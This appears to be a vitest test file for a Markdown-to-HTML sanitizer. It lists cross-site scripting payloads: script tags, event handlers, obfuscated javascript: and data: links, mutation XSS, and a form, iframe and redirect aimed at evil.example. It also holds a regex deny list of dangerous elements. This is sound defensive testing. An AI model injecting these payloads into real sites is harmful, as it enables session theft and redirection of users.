import { describe, expect, it } from "vitest";
import { markdownToHtml } from "@/lib/content/markdown";

// The probe's hostile Markdown (issue 23): each body renders without an element that runs
// code, loads or embeds anything, changes the page's base or styling, or posts anywhere, and
// without an attribute that runs code or an address with a script or data scheme.
const HOSTILE: [string, string][] = [
  ["a script element", "Teksti <script>alert(1)</script>"],
  ["an image with onerror", "<img src=x onerror=alert(1)>"],
  ["a javascript: link", "[klikkaa](javascript:alert(1))"],
  ["a javascript: link in mixed case", "[klikkaa](JaVaScRiPt:alert(1))"],
  ["a javascript: link written with entities", "[klikkaa](&#106;avascript&#58;alert(1))"],
  ["a javascript: image", "![kuva](javascript:alert(1))"],
  ["a reference link to javascript:", "[linkki][x]\n\n[x]: javascript:alert(1)"],
  ["an autolink to javascript:", "<javascript:alert(1)>"],
  ["a data: HTML link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["a vbscript: link", "[x](vbscript:msgbox(1))"],
  ["an inline HTML link to javascript:", '<a href="javascript:alert(1)">x</a>'],
  ["an iframe", '<iframe src="https://evil.example/"></iframe>'],
  ["an svg with onload", "<svg onload=alert(1)><circle r=1 /></svg>"],
  ["details with ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"],
  ["a style element and a style attribute", '<style>body{display:none}</style><p style="x">y</p>'],
  ["object and embed", '<object data="x.swf"></object><embed src="x.swf">'],
  ["a form", '<form action="https://evil.example/"><input name="q"><button>OK</button></form>'],
  [
    "meta refresh and base",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  ],
  [
    "mutation XSS through math and style",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  ],
];

const FORBIDDEN_ELEMENTS =
  /<(script|iframe|svg|math|object|embed|style|form|input|button|meta|base|details|link|img\b[^>]*onerror)/i;

describe.each(HOSTILE)("markdownToHtml with %s", (_name, markdown) => {
  const { html } = markdownToHtml(`Alku.\n\n${markdown}\n\nLoppu.`);

  it("leaves no element that runs code, embeds, restyles or posts", () => {
    expect(html).not.toMatch(FORBIDDEN_ELEMENTS);
  });

  it("leaves no event handler, no style attribute and no script or data address", () => {
    expect(html).not.toMatch(/\s(on[a-z]+|style)\s*=/i);
    expect(html).not.toMatch(/=\s*["']?\s*(javascript|vbscript|data):/i);
  });

  it("keeps the text around it", () => {
    expect(html).toContain("Alku.");
    expect(html).toContain("Loppu.");
  });
});
